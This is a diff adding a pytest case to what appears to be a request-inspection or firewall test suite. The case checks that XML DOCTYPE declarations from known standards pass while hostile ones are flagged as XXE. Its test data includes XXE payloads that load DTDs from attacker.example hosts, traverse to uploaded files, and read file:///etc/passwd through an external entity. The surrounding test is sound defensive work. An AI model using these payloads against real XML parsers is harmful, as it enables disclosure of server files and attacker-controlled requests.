@@ -509,6 +509,25 @@ def test_apples_property_list_doctype_passes_with_its_own_dtd_only(system_id: st
     assert any(f.category is Category.XXE and f.score >= 0.5 for f in found) is blocked
 
 
+@pytest.mark.parametrize(
+    ("doctype", "blocked"),
+    [
+        ('<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "http://mybatis.org/dtd/mybatis-3-mapper.dtd">', False),
+        ('<!DOCTYPE properties SYSTEM "http://java.sun.com/dtd/properties.dtd">', False),
+        ('<!DOCTYPE note SYSTEM "note.dtd">', False),  # a file beside the document
+        ('<!DOCTYPE note SYSTEM "http://attacker.example/evil.dtd">', True),
+        ('<!DOCTYPE note PUBLIC "-//x//y//EN" "http://w3.org.attacker.example/e.dtd">', True),
+        ('<!DOCTYPE note SYSTEM "file:///etc/passwd">', True),
+        ('<!DOCTYPE note SYSTEM "../../uploads/evil.dtd">', True),
+        ('<!DOCTYPE note SYSTEM "note.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>', True),
+    ],
+)
+def test_a_standards_doctype_passes_an_attackers_does_not(doctype: str, blocked: bool) -> None:
+    body = f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n<note><to>Tove</to><body>Reminder</body></note>'.encode()
+    found = stage().findings(request("POST", "/api/import", headers=[("content-type", "application/xml")], body=body))
+    assert any(f.category is Category.XXE and f.score >= 0.5 for f in found) is blocked
+
+
 def test_ssrf_not_judged_in_referer_but_in_a_parameter() -> None:
     headers = [*BROWSER, ("referer", "http://127.0.0.1:3000/dev")]
     assert blocking(stage().findings(request(headers=headers))) == {}
